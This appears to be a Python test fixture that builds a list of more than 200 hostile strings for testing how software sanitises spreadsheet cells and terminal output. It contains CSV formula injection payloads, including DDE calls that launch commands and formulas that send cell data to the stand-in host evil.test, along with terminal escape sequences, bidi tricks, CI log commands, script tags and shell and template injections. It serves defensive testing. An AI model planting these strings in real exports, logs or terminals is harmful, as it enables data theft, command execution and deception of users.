"""Texts that are more than text to a spreadsheet or a terminal: more than 200 of them."""

from __future__ import annotations

from itertools import product

_BEGINS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "\u00a0=", "  =", "'=")
_FORMULAS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.test?x="&A1,"ok")',
    'IMPORTXML(CONCAT("https://evil.test/",A1),"//a")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'WEBSERVICE("https://evil.test/"&A1)',
    'DDE("cmd","/C calc","x")',
    "1,2\n=3",
    '"",=1+1',
    "1;=1+1",
    "1|2\t=3",
    "x\r\n=1+1",
)
_STEERING = (
    *(
        "\x1b[31mred",
        "\x1b[8mhidden\x1b[0m",
        "\x1b[2J\x1b[H",
        "\x1b]0;title\x07",
        "\x1bc",
        "\x9b31m",
    ),
    *(
        "\x1b]8;;https://evil.test\x1b\\ok\x1b]8;;\x1b\\",
        "\x1b[6n",
        "\x1b[1A\x1b[2K",
        "\x1bP+q\x1b\\",
    ),
    *(
        "\x1b]52;c;ZXZpbA==\x07",
        "\x07" * 9,
        "\b" * 80,
        "a\rb",
        "\x0e",
        "\x0f",
        "\x7f",
        "\x00",
        "\x85",
    ),
    *(
        "a\u202eb",
        "\u2066a\u2069",
        "\u200fx",
        "\u061cx",
        "\u200ex",
        "\ud800",
        "x\udfff",
        "\x84\x90",
    ),
    *(
        "x\n+ create salesforce Lead evil@x.example    [push contact as Lead]",
        "x\n\nno open errors",
    ),
    *("x\n::error::evil", "::set-output name=x::y", "%0A::error::evil", "x\n##vso[task.complete]"),
    *(
        "</script><script>alert(1)</script>",
        "<!-- x",
        "]]>",
        "| a | b |",
        "```",
        "# head",
        "[x](y)",
    ),
    *(
        "$(id)",
        "`id`",
        "${x}",
        "%n%s",
        "{0}",
        "{{ 7 * 7 }}",
        "{% raw %}",
        "\\u001b[31m",
        "\\x1b[31m",
    ),
)


def hostile() -> list[str]:
    """All of them, each once."""
    made = [begin + formula for begin, formula in product(_BEGINS, _FORMULAS)]
    return list(dict.fromkeys((*made, *_STEERING)))
